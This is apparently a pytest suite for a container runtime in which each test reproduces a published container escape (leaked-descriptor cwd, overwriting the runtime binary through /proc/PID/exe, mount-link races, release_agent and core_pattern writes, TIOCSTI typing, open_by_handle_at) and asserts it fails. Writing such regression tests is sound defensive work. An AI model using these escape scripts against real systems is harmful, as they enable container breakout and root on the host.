"""Published escapes, one test each, each tried for real. docs/security.md says by what each is held.

Where an attack needs a race it runs for a bounded number of rounds; a test passes only when the attack was tried,
so each also proves that its attacker ran.
"""

from __future__ import annotations

import contextlib
import ctypes
import hashlib
import os
import pty
import shutil
import subprocess
import termios
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from security.conftest import Box

pytestmark = pytest.mark.root

CORE_PATTERN = Path("/proc/sys/kernel/core_pattern")
SYSCALL = "import ctypes, os, sys\nlibc = ctypes.CDLL(None, use_errno=True)\n"


@contextlib.contextmanager
def sleeping(box: Box, **more: Any) -> Iterator[str]:
    """A container whose first process only sleeps; its id."""
    name, made = box.write(box.document("sleep", "1000", **more))
    log = box.place.top / "create.log"
    with log.open("wb") as sink:  # the container keeps these descriptors: pipes would never end
        words = box.command.argv("create", "--bundle", made, name)
        done = subprocess.run(words, stdin=subprocess.DEVNULL, stdout=sink, stderr=sink, check=False, timeout=30)
    assert done.returncode == 0, log.read_text()
    try:
        box.command.call("start", name).ok()
        yield name
    finally:
        box.command.call("delete", "--force", name)


# Descriptors and the working directory -----------------------------------------------------------------------


@pytest.mark.parametrize("number", range(3, 16))
def test_working_directory_through_a_leaked_descriptor(box: Box, number: int) -> None:
    """CVE-2024-21626: a cwd of /proc/self/fd/N entered a directory of the host that the runtime had open."""
    (box.place.top / "canary").write_text("host")
    escape = "import os; print('vol' in os.listdir('../' * 12), os.getcwd()[0])"
    for directory in (f"/proc/self/fd/{number}", f"/proc/self/fd/{number}/.."):
        done = box.python(escape, cwd=directory)
        assert done.status != 0 or done.out == b"True /\n", done


def test_working_directory_of_exec_through_a_leaked_descriptor(box: Box) -> None:
    """CVE-2024-21626, the second door: `exec --cwd`."""
    with sleeping(box) as name:
        assert box.command.call("exec", "--cwd", "/tmp", name, "pwd").ok() == "/tmp\n"
        for number in range(3, 16):
            done = box.command.call("exec", "--cwd", f"/proc/self/fd/{number}", name, "ls", "-d", "../../../../boot")
            assert done.status != 0, (number, done)


def test_callers_descriptors_stay_outside(box: Box) -> None:
    """A descriptor that the caller left open is not the container's, unless it is named by --preserve-fds."""
    host = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    try:
        name, made = box.write(box.document("sh", "-c", "ls /proc/self/fd"))
        words = box.command.argv("run", "--bundle", made, name)
        done = subprocess.run(
            words, stdin=subprocess.DEVNULL, capture_output=True, pass_fds=[host], check=False, timeout=30
        )
    finally:
        os.close(host)
    assert done.stdout.split() == [b"0", b"1", b"2", b"3"], done


def test_working_directory_outside_the_root(box: Box) -> None:
    """A cwd that is relative, climbs, or passes an absolute link is resolved inside the root or refused."""
    (box.root / "vol" / "link").symlink_to(box.place.top)
    (box.root / "vol" / "up").symlink_to("../../../../../../..")
    (box.place.top / "canary").write_text("host")
    for directory in ("../../..", "/vol/../../../..", "/vol/link", "/vol/up"):
        done = box.run("sh", "-c", "cat canary; ls -d /work 2>&1; ls", cwd=directory)
        assert b"host" not in done.out, (directory, done)
        assert done.status != 0 or b"vol" in done.out or directory == "/vol/link", (directory, done)


# The runtime's own program --------------------------------------------------------------------------------------

THIEF = """
import os, time
held, got, tried = {}, 0, 0
print("armed", flush=True)
until = time.monotonic() + 4
own = os.stat("/proc/self/exe").st_ino
while time.monotonic() < until:
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) <= 1 or int(pid) == os.getpid(): continue
        try: descriptor = os.open(f"/proc/{pid}/exe", os.O_PATH)
        except OSError: continue
        found = os.fstat(descriptor)
        if (found.st_dev, found.st_ino) in held: os.close(descriptor)
        else: held[found.st_dev, found.st_ino] = descriptor
    for descriptor in held.values():
        tried += 1
        try: os.write(os.open(f"/proc/self/fd/{descriptor}", os.O_WRONLY), b"#!/bin/sh owned"); got += 1
        except OSError: pass
print("tried", tried > 0, "got", got, flush=True)
"""


def test_the_runtimes_program_is_not_overwritten(box: Box) -> None:
    """CVE-2019-5736: a container wrote to the runtime's program through /proc/PID/exe while it entered."""
    program = Path(shutil.copy2(box.command.program, box.place.top / "runtime"))  # what is at stake is a copy
    box.command.program = program
    before = hashlib.sha256(program.read_bytes()).hexdigest()
    (box.root / "vol" / "loop").write_text("#!/proc/self/exe\n")
    (box.root / "vol" / "loop").chmod(0o755)
    name, made = box.write(box.document("python3", "-c", THIEF))
    words = box.command.argv("run", "--bundle", made, name)
    # /usr is Debian's shared tree: it is read-only there, so a write that succeeds can only be the runtime's program.
    with subprocess.Popen(words, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, bufsize=0) as thief:
        try:
            assert thief.stdout
            assert thief.stdout.readline() == b"armed\n"
            while thief.poll() is None:
                for victim in ("/proc/self/exe", "/vol/loop"):
                    box.command.call("exec", name, victim, "--version")
            assert thief.stdout.read() == b"tried True got 0\n"
        finally:
            box.command.call("delete", "--force", name)
    assert hashlib.sha256(program.read_bytes()).hexdigest() == before


# Mounts and races -------------------------------------------------------------------------------------------------


def test_a_link_race_does_not_move_a_mount_outside(box: Box) -> None:
    """CVE-2021-30465, CVE-2024-45310: a mount's target was swapped for a link while the runtime walked to it."""
    prize = box.place.top / "prize"
    prize.mkdir()
    volume = box.root / "vol"
    (volume / "there").mkdir()
    (volume / "away").symlink_to("../" * 20 + str(prize)[1:])
    source = box.place.top / "source"
    source.mkdir()
    (source / "mark").write_text("mounted")
    stop = threading.Event()
    swaps = 0

    def swap() -> None:
        nonlocal swaps
        while not stop.is_set():
            exchange(volume / "there", volume / "away")
            swaps += 1

    def change(document: dict[str, Any]) -> None:
        options = ["rbind", "rw"]
        for leaf in ("deep", "deeper/file"):
            document["mounts"].append(
                {"destination": f"/vol/there/{leaf}", "type": "bind", "source": str(source), "options": options}
            )

    racer = threading.Thread(target=swap)
    racer.start()
    try:
        results = [box.run("true", change=change) for _ in range(40)]
    finally:
        stop.set()
        racer.join()
    assert swaps > 1000
    # The targets do not exist, so a runtime that went astray has made them where it arrived.
    assert list(prize.iterdir()) == []
    assert any(done.status == 0 for done in results), results[-1]


def exchange(one: Path, other: Path) -> None:
    """renameat2(RENAME_EXCHANGE): both names exist at every moment."""
    libc = ctypes.CDLL(None)
    libc.renameat2(-100, os.fsencode(one), -100, os.fsencode(other), 2)


def without(document: dict[str, Any], destination: str) -> None:
    document["mounts"] = [m for m in document["mounts"] if not m["destination"].startswith(destination)]


def test_masking_does_not_bind_what_the_root_calls_null(box: Box) -> None:
    """CVE-2025-31133: the container's /dev/null was a link, so masking bound the link's target, writable."""
    (box.root / "dev" / "null").symlink_to(CORE_PATTERN)

    def change(document: dict[str, Any]) -> None:
        without(document, "/dev")
        document["linux"]["maskedPaths"] = ["/proc/timer_list", "/proc/keys"]

    for path in document_paths(change, box):
        done = box.run("sh", "-c", f"cat {path}; cat {path} | wc -c", change=change)
        assert done.status != 0 or done.out == b"0\n", done


def document_paths(change: Any, box: Box) -> list[str]:
    document = box.document("true")
    change(document)
    return list(document["linux"]["maskedPaths"])


def test_the_console_is_not_bound_through_a_link(box: Box) -> None:
    """CVE-2025-52565: /dev/console was a link, so the terminal was bound over a file of the attacker's choice."""
    (box.root / "dev" / "console").symlink_to("/vol/target")
    (box.root / "vol" / "target").write_text("untouched")
    master, slave = pty.openpty()
    try:
        script = "stat -c %F /vol/target; grep -c /vol/target /proc/self/mountinfo; echo end"
        document = box.document("sh", "-c", script, terminal=True)
        document["mounts"] = [m for m in document["mounts"] if m["destination"] != "/dev"]
        name, made = box.write(document)
        words = ["setsid", "--ctty", "--wait", *box.command.argv("run", "--bundle", str(made), name)]
        done = subprocess.Popen(words, stdin=slave, stdout=slave, stderr=slave)
        os.close(slave)
        seen = drain(master)
        status = done.wait(20)
    finally:
        os.close(master)
        box.command.call("delete", "--force", name)
    assert b"character special" not in seen
    assert status != 0 or seen == b"regular file\r\n0\r\nend\r\n", (status, seen)
    assert (box.root / "vol" / "target").read_text() == "untouched"


def drain(descriptor: int) -> bytes:
    seen = b""
    with contextlib.suppress(OSError):
        while piece := os.read(descriptor, 65536):
            seen += piece
    return seen


# procfs ---------------------------------------------------------------------------------------------------------------


def test_kernel_parameters_are_not_written_to_a_false_proc(box: Box) -> None:
    """CVE-2025-52881: what the runtime wrote into /proc went where the container's mounts redirected it."""
    fake = box.place.top / "fake"
    (fake / "sys/net/ipv4").mkdir(parents=True)
    target = fake / "sys/net/ipv4/ip_unprivileged_port_start"
    target.write_text("victim")
    for path in ("self/attr/exec", "self/attr/current", "thread-self/attr/exec", "self/oom_score_adj"):
        (fake / path).parent.mkdir(parents=True, exist_ok=True)
        (fake / path).write_text("victim")

    def change(document: dict[str, Any]) -> None:
        without(document, "/proc")
        document["mounts"].append({"destination": "/proc", "type": "bind", "source": str(fake), "options": ["bind"]})
        document["linux"]["sysctl"] = {"net.ipv4.ip_unprivileged_port_start": "0"}
        document["process"]["oomScoreAdj"] = 500

    done = box.run("true", change=change)
    written = [path for path in fake.rglob("*") if path.is_file() and path.read_text() != "victim"]
    assert written == [], done


@pytest.mark.parametrize("target", ["/vol/evil", "vol/evil", "/tmp"])
def test_proc_behind_a_link(box: Box, target: str) -> None:
    """CVE-2019-19921, CVE-2023-28642: /proc was a link, so labels and masks went to a place of the attacker's."""
    (box.root / "vol" / "evil").mkdir()
    (box.root / "proc").rmdir()
    (box.root / "proc").symlink_to(target)
    done = box.run("sh", "-c", "cat /proc/timer_list /proc/keys; echo 1 > /proc/sys/kernel/printk && echo written")
    assert done.out == b"", done


NEW_PROC = (
    SYSCALL
    + """
NEWUSER, NEWNS, NEWPID = 0x10000000, 0x20000, 0x20000000
print("unshared", libc.unshare(NEWUSER | NEWNS | NEWPID) == 0, flush=True)
pid = os.fork()
if pid == 0:
    mounted = libc.mount(b"proc", b"/vol", b"proc", 0, None) == 0
    print("mounted", mounted)
    for path in (b"/proc/sys", b"/proc/bus", b"/proc/timer_list", b"/proc/keys"):
        if libc.umount2(path, 2) == 0: print("uncovered", path)
    for path in (b"/proc/sys", b"/proc/bus"):
        if libc.mount(b"none", path, None, 32 | 4096, None) == 0: print("made writable", path)
    try: os.close(os.open("/vol/sys/kernel/core_pattern", os.O_WRONLY)); print("writable")
    except OSError: pass
    sys.exit(0)
os.waitpid(pid, 0)
"""
)


def test_proc_mounted_again(box: Box) -> None:
    """A fresh procfs in a user namespace of the container's own would lack the masks: the kernel must refuse it."""
    assert box.python(NEW_PROC).out in (b"unshared True\nmounted False\n", b"unshared False\nmounted False\n")


def test_core_pattern(box: Box) -> None:
    """A program named in core_pattern is run by the host's kernel as root."""
    before = CORE_PATTERN.read_bytes()
    script = (
        "echo '|/bin/false' > /proc/sys/kernel/core_pattern; mount -o remount,rw /proc/sys; echo > /proc/sysrq-trigger"
    )
    assert box.run("sh", "-c", f"{script}; true").err.count(b"\n") >= 3
    assert CORE_PATTERN.read_bytes() == before


@pytest.mark.parametrize(
    "name", ["kernel.core_pattern", "kernel.modprobe", "vm.overcommit_memory", "kernel/../kernel/panic"]
)
def test_parameters_that_are_the_hosts(box: Box, name: str) -> None:
    """A sysctl of config.json that no namespace holds would change the host."""
    path = Path("/proc/sys") / name.replace(".", "/").replace("//", "..")
    before = path.read_bytes() if path.exists() else b""

    def change(document: dict[str, Any]) -> None:
        document["linux"]["sysctl"] = {name: before.decode().strip() or "0"}

    done = box.run("true", change=change)
    assert done.status != 0, done
    assert name.rsplit(".", maxsplit=1)[-1].rsplit("/", maxsplit=1)[-1].encode() in done.err


def test_parameters_of_a_namespace_that_is_the_hosts(box: Box) -> None:
    def change(document: dict[str, Any]) -> None:
        document["linux"]["namespaces"] = [n for n in document["linux"]["namespaces"] if n["type"] != "network"]
        document["linux"]["sysctl"] = {"net.ipv4.ip_forward": Path("/proc/sys/net/ipv4/ip_forward").read_text().strip()}

    done = box.run("true", change=change)
    assert done.status != 0
    assert b"net.ipv4.ip_forward" in done.err


# Devices, control groups, keys, terminals -------------------------------------------------------------------------

MEMORY = """
import os, stat
for name, major, minor in (("mem", 1, 1), ("kmsg", 1, 11), ("disk", 254, 0), ("loop", 7, 0)):
    path = "/tmp/" + name
    try: os.mknod(path, stat.S_IFCHR | 0o600 if major < 7 else stat.S_IFBLK | 0o600, os.makedev(major, minor))
    except OSError as error: print("mknod", error.errno); continue
    for flags in (os.O_RDONLY, os.O_RDWR):
        try: os.open(path, flags); print("opened", name)
        except OSError as error: print("open", error.errno)
"""


def test_device_nodes_of_its_own_making(box: Box) -> None:
    """With CAP_MKNOD and no nodev, the device rules alone keep /dev/mem and disks closed."""
    options = ["nosuid", "mode=1777"]

    def change(document: dict[str, Any]) -> None:
        without(document, "/tmp")
        document["mounts"].append({"destination": "/tmp", "type": "tmpfs", "source": "tmpfs", "options": options})

    done = box.python(MEMORY, change=change, capabilities=["CAP_MKNOD", "CAP_DAC_OVERRIDE", "CAP_SYS_RAWIO"])
    assert done.ok().split() == ["open", "1"] * 8


def test_device_nodes_in_a_user_namespace(user_box: Box) -> None:
    done = user_box.python(MEMORY, capabilities=["CAP_MKNOD", "CAP_SYS_ADMIN"])
    assert set(done.ok().split("\n")) == {"mknod 1", ""}


AGENT = (
    SYSCALL
    + """
NEWUSER, NEWNS, NEWCGROUP = 0x10000000, 0x20000, 0x2000000
print("unshared", libc.unshare(NEWUSER | NEWNS | NEWCGROUP) == 0)
for kind, options in ((b"cgroup", b"memory"), (b"cgroup", b"rdma"), (b"cgroup", b"none,name=x"), (b"cgroup2", None)):
    if libc.mount(b"x", b"/vol", kind, 0, options) == 0:
        try: open("/vol/release_agent", "w").write("/bin/false"); print("written")
        except OSError: pass
        libc.umount(b"/vol")
for base, _, files in os.walk("/sys/fs/cgroup"):
    if "release_agent" in files: print("seen", base)
"""
)


def test_release_agent(box: Box) -> None:
    """CVE-2022-0492: the release_agent of a cgroup v1 hierarchy is run by the host's kernel as root."""
    assert box.python(AGENT).out in (b"unshared True\n", b"unshared False\n")


LIMITS = (
    SYSCALL
    + """
NEWNS, NEWCGROUP = 0x20000, 0x2000000
print("unshared", libc.unshare(NEWNS | NEWCGROUP) == 0)
for kind, options in ((b"cgroup", b"pids"), (b"cgroup2", None)):
    if libc.mount(b"x", b"/vol", kind, 0, options) == 0:
        for name in ("pids.max", "cgroup.procs"):
            if os.path.exists("/vol/" + name):
                try: open("/vol/" + name, "w").write("max" if name == "pids.max" else "0"); print("written", name)
                except OSError as error: print(name, error.errno)
        libc.umount(b"/vol")
"""
)


def test_limits_are_not_its_own_to_raise(user_box: Box) -> None:
    """Its own cgroup, mounted by itself with CAP_SYS_ADMIN, is the host's root's still."""
    done = user_box.python(LIMITS, pids=50, capabilities=["CAP_SYS_ADMIN", "CAP_DAC_OVERRIDE"])
    said = done.ok().splitlines()
    assert said[0] == "unshared True"
    assert "pids.max 13" in said
    assert set(said[1:]) <= {"pids.max 13", "cgroup.procs 13"}


KEYS = (
    SYSCALL
    + """
libc.syscall.restype = ctypes.c_long
found = libc.syscall(250, 10, -3, b"user", b"stockade-canary", 0)   # KEYCTL_SEARCH in the session keyring
print("search", found, ctypes.get_errno())
session = libc.syscall(250, 0, -3, 0, 0, 0)                         # KEYCTL_GET_KEYRING_ID
print("session", session)
"""
)


def test_keys_of_the_host(box: Box) -> None:
    """The session keyring of whoever called the runtime is not the container's."""
    code = (
        "import ctypes, os, sys; l = ctypes.CDLL(None); l.syscall.restype = ctypes.c_long\n"
        "l.syscall(250, 1, b'stockade-test')\n"  # KEYCTL_JOIN_SESSION_KEYRING: a keyring of this test alone
        "k = l.syscall(248, b'user', b'stockade-canary', b'secret', 6, -3)\n"
        "assert k > 0, k\n"
        "os.execv(sys.argv[1], sys.argv[1:])"
    )
    name, made = box.write(box.document("python3", "-c", KEYS))
    words = ["python3", "-c", code, *box.command.argv("run", "--bundle", made, name)]
    words[4] = shutil.which(words[4]) or words[4]
    done = subprocess.run(words, stdin=subprocess.DEVNULL, capture_output=True, check=False, timeout=30)
    box.command.call("delete", "--force", name)
    lines = done.stdout.decode().splitlines()
    assert lines[0].startswith("search -1 "), done
    assert lines[0].split()[2] in ("126", "1", "38")  # ENOKEY, or the call itself is refused


INJECT = """
import fcntl, termios
try:
    for byte in b"id\\n": fcntl.ioctl(0, termios.TIOCSTI, bytes([byte]))
    print("injected")
except OSError as error: print("errno", error.errno)
"""


def test_typing_into_the_callers_terminal(box: Box) -> None:
    """TIOCSTI: a program that was handed its caller's terminal typed commands for the caller's shell."""
    master, slave = pty.openpty()
    attributes = termios.tcgetattr(slave)
    attributes[3] &= ~(termios.ECHO | termios.ICANON)
    termios.tcsetattr(slave, termios.TCSANOW, attributes)
    name, made = box.write(box.document("python3", "-c", INJECT))
    words = ["setsid", "--ctty", "--wait", *box.command.argv("run", "--bundle", made, name)]
    done = subprocess.Popen(words, stdin=slave, stdout=slave, stderr=slave)
    assert done.wait(20) == 0
    os.set_blocking(slave, False)
    with pytest.raises(BlockingIOError):
        os.read(slave, 10)
    os.close(slave)
    assert drain(master).startswith(b"errno")
    os.close(master)


# What a container leaves on the host ------------------------------------------------------------------------------


def shared(box: Box) -> tuple[Path, Any]:
    directory = box.place.top / "shared"
    directory.mkdir()
    directory.chmod(0o777)

    def change(document: dict[str, Any]) -> None:
        options = ["rbind", "rw"]
        document["mounts"].append({"destination": "/vol", "type": "bind", "source": str(directory), "options": options})

    return directory, change


def test_a_setuid_program_left_in_a_shared_directory(user_box: Box) -> None:
    """Root inside leaves a 4755 copy of a shell: outside it must not belong to root."""
    directory, change = shared(user_box)
    user_box.run("sh", "-c", "cp /bin/dash /vol/shell; chmod 4755 /vol/shell", change=change).ok()
    left = (directory / "shell").stat()
    assert left.st_mode & 0o7777 == 0o4755
    assert left.st_uid >= 1_000_000
    done = subprocess.run(
        ["setpriv", "--reuid", "65534", "--clear-groups", directory / "shell", "-p", "-c", "id -u"],
        capture_output=True,
        check=True,
    )
    assert int(done.stdout) != 0


def test_file_capabilities_left_in_a_shared_directory(user_box: Box) -> None:
    """Root of a user namespace may set file capabilities: outside they must count for nothing."""
    directory, change = shared(user_box)
    held = ["CAP_SETFCAP", "CAP_DAC_OVERRIDE", "CAP_CHOWN", "CAP_SYS_ADMIN"]
    script = "cp /bin/cat /vol/cat; setcap all+ep /vol/cat"
    user_box.run("sh", "-c", script, change=change, capabilities=held).ok()
    shown = subprocess.run(["getcap", "-n", directory / "cat"], capture_output=True, text=True, check=True).stdout
    assert "rootid=1000000" in shown
    done = subprocess.run(
        ["setpriv", "--reuid", "65534", "--clear-groups", directory / "cat", "/proc/self/status"],
        capture_output=True,
        text=True,
        check=True,
    )
    effective = next(line for line in done.stdout.splitlines() if line.startswith("CapEff"))
    assert int(effective.split()[1], 16) == 0


def test_no_inheritable_capabilities(box: Box) -> None:
    """CVE-2022-29162: inheritable capabilities let any file with inheritable ones raise them after an execve."""
    with sleeping(box) as name:
        for words in (("exec", name), ("exec", "--user", "1000:1000", name)):
            line = box.command.call(*words, "grep", "CapInh", "/proc/self/status").ok()
            assert int(line.split()[1], 16) == 0


def test_the_hosts_root_is_not_reachable_by_climbing(box: Box) -> None:
    """chroot's old escape: with CAP_SYS_CHROOT, fchdir to a descriptor above a new root. pivot_root leaves no above."""
    script = (
        SYSCALL
        + """
os.mkdir("/tmp/in"); outer = os.open("/", os.O_RDONLY); os.chroot("/tmp/in"); os.fchdir(outer)
for _ in range(30): os.chdir("..")
os.chroot(".")
print(sorted(set(os.listdir("/")) & {"vol", "work", "boot"}))
"""
    )
    assert box.python(script, capabilities=["CAP_SYS_CHROOT", "CAP_DAC_OVERRIDE"]).ok() == "['vol']\n"


def test_opening_files_by_handle(box: Box) -> None:
    """The 2014 "shocker": open_by_handle_at reaches any file of the host's file system by its inode number."""
    script = (
        SYSCALL
        + """
class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_uint32 * 2)]
mount = os.open("/", os.O_RDONLY)
handle = Handle(8, 1, (ctypes.c_uint32 * 2)(2, 0))
print(libc.open_by_handle_at(mount, ctypes.byref(handle), os.O_RDONLY), ctypes.get_errno())
"""
    )
    assert box.python(script).ok() == "-1 1\n"
